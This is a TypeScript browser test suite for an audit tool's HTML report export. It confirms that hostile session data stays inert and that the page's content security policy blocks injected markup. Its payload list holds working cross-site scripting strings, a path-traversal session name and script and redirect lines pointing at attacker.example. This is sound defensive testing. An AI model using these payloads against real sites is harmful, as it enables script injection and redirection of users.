import { once } from "node:events";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { beforeAll, afterAll, describe, expect, onTestFinished, test } from "vitest";
import type { Browser } from "playwright-core";
import { writeSessions } from "../audit-review/report-record.ts";
import { hasBrowser, openWatched, startBrowser, withBrowser } from "../harness/browser.ts";
import { pep } from "../harness/endpoint.ts";
import { temporaryDirectory } from "../harness/temporary-directory.ts";

/** Every way out of the places where the report puts foreign text: an element, an attribute, a script block, a style. */
const hostile = [
  "</script><img src=x onerror=alert(1)>",
  "<!--<script>",
  "<script src=https://attacker.example/x.js></script>",
  "<script src=../assets/session.js></script>",
  "\"'><svg onload=alert(2)>",
  "' onmouseover='alert(3)",
  "</style><style>body{display:none}</style>",
  "</title><meta http-equiv=refresh content='0;url=https://attacker.example/'>",
  "</textarea></select><iframe srcdoc='<script>parent.alert(4)</script>'>",
  "javascript:alert(5)",
  "${alert(6)}`",
  "&lt;b&gt; &#x3c;img src=x onerror=alert(7)&#x3e;",
  "PC-\u202egnp.exe\u202c",
  "line\u2028separator\u2029",
  "bell\u0007 nul\u0000 escape\u001b[2J",
  "\ud800 lone",
  "__proto__",
] as const;

/** What a reader must be able to find on the page, letter by letter. */
const shown = (text: string): string =>
  text.replace(/[^\P{C}\n]|[\u2028\u2029]/gu, (character) => `\\u{${(character.codePointAt(0) ?? 0).toString(16)}}`);

const sessionIdAt = (place: number): string => `S-${String(place).padStart(4, "0")}`;

const exported = async (): Promise<{ folder: string; index: string }> => {
  const dataDirectory = join(temporaryDirectory(), "data");
  const sessions = hostile.map((text, place) => ({
    sessionId: sessionIdAt(place),
    user: text,
    startedAt: new Date(Date.UTC(2026, 4, 1 + place)),
    computers: [text, `second ${text}`],
    command: text,
    reason: text,
    clientAddress: text,
    clientSoftware: text,
    transcript: [
      [0.1, "o", `before ${text} after\r\n`],
      [0.1, "m", `disclosed ${text}`],
      [
        0.1,
        "o",
        "\u001b]8;;javascript:alert(8)\u001b\\link\u001b]8;;\u001b\\ \u001b]0;<img src=x onerror=alert(9)>\u0007",
      ],
      [0.1, "r", "<script>alert(10)</script>"],
      [0.1, "r", "99999999x99999999"],
      [0.1, "x", text],
    ],
  }));
  // A session's name names its page: it comes from the log, which may have been tampered with.
  const outside = {
    ...sessions[0],
    sessionId: "../../outside",
    user: "mallory",
    startedAt: new Date(0),
    computers: [],
  };
  const { transcript: _, ...withoutTranscript } = outside;
  writeSessions(dataDirectory, [...sessions, withoutTranscript]);
  const folder = join(temporaryDirectory(), "report");
  const result = await pep(["audit", "export", "--html", folder, "--data-dir", dataDirectory]);
  expect(result.status, result.stderr).toBe(0);
  return { folder, index: pathToFileURL(join(folder, "index.html")).href };
};

describe.skipIf(!hasBrowser)(`hostile text in a report, ${withBrowser}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  // ATTACK   Give a computer a name that is markup, log in with such a client, ask with such a reason, type it into the screen.
  // DANGER   The auditor opens the report, and the name runs as a script: it rewrites what they see, or sends the record away.
  // EXPECT   Nothing runs, nothing is asked of the network, and the text stands there as text, its invisible characters visible.
  test("what users and clients wrote is shown letter by letter, and nothing of it runs", async () => {
    const { folder, index } = await exported();
    expect(readdirSync(folder).sort()).toEqual([".pep-report", "assets", "index.html", "sessions"]);
    const { page, trouble } = await openWatched(browser);
    await page.goto(index);
    await expect.poll(() => page.locator("#sessions tbody tr").count()).toBe(hostile.length + 1);
    const list = (await page.locator("#sessions").textContent()) ?? "";
    const users = await page.evaluate<string[]>(`[...document.querySelectorAll("#users option")].map((o) => o.value)`);
    for (const text of hostile) {
      expect(list).toContain(shown(text));
      expect(users).toContain(shown(text));
    }
    const links = await page.evaluate<string[]>(
      `[...document.querySelectorAll("#sessions tbody a")].map((a) => a.href)`,
    );
    expect(new Set(links).size).toBe(hostile.length + 1);
    for (const [place, text] of hostile.entries()) {
      await page.goto(links.find((link) => link.endsWith(`/${sessionIdAt(place)}.html`)) ?? "");
      await expect.poll(() => page.locator("#markers button").count()).toBe(1);
      const main = (await page.locator("main").textContent()) ?? "";
      // User, client software, address, command, reason and both computers.
      expect(main.split(shown(text)).length).toBeGreaterThan(7);
      await page.locator("#markers button").click();
      await expect.poll(() => page.locator("#position").textContent()).toContain("disclosed");
      await expect.poll(() => page.locator(".ap-term-text").innerText()).toContain("link");
      expect(await page.locator("main").locator("iframe, img, a, [onload], [onerror], [onmouseover]").count()).toBe(0);
    }
    expect(trouble).toEqual([]);
  }, 120_000);

  // ATTACK   Find a hole in the escaping anyway: markup of one's own in a page.
  // DANGER   One forgotten place is enough to run a script with the whole report before it.
  // EXPECT   The page's policy stops it: inline scripts and handlers, files beside it, the network, a form, another base.
  test.each([
    ["the index", "index.html"],
    ["a session with a player", "sessions/S-0000.html"],
    ["a session without", `sessions/session-${hostile.length + 1}.html`],
  ])(
    "markup that got into %s still can't run or call out",
    async (_, name) => {
      const { folder } = await exported();
      const attacker = createServer();
      // Requests, not connections: Chromium 156 opens one for a form before it asks the policy, and sends nothing on it.
      const received: string[] = [];
      attacker.on("request", ({ url = "" }, response) => {
        received.push(url);
        response.end();
      });
      await once(attacker.listen(0, "127.0.0.1"), "listening");
      onTestFinished(() => void attacker.close());
      const address = attacker.address();
      const away = `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
      const other = join(folder, "assets", "other.js");
      writeFileSync(other, "window.ran = 'a file beside it'");
      const markup = `<base href="${away}/">
      <img src="${away}/a.png" onerror="window.ran = 'a handler'">
      <link rel="stylesheet" href="${away}/a.css"><p style="position:fixed" id="styled">x</p>
      <script>window.ran = "inline"</script><script src="${pathToFileURL(other).href}"></script>
      <a id="out" href="javascript:window.ran='a link'">x</a>
      <form action="${away}/"><button id="send">send</button></form>`;
      // Into the file: what a parser reads is what an escape would have been forgotten in.
      const path = join(folder, name);
      const text = readFileSync(path, "utf8");
      const at = text.indexOf("</main>");
      writeFileSync(path, text.slice(0, at) + markup + text.slice(at));
      const { page, trouble } = await openWatched(browser);
      await page.goto(pathToFileURL(path).href, { waitUntil: "domcontentloaded" });
      await page.evaluate(`document.querySelector("#out").click(), document.querySelector("#send").click()`);
      for (const directive of ["script-src", "img-src", "style-src", "base-uri", "form-action"]) {
        await expect.poll(() => trouble.join("\n")).toContain(directive);
      }
      expect(await page.evaluate("window.ran")).toBeUndefined();
      expect(await page.evaluate("getComputedStyle(document.querySelector('#styled')).position")).toBe("static");
      expect(page.url()).toBe(pathToFileURL(path).href);
      expect(trouble.filter((what) => what.startsWith("dialog"))).toEqual([]);
      expect(received).toEqual([]);
    },
    60_000,
  );
});
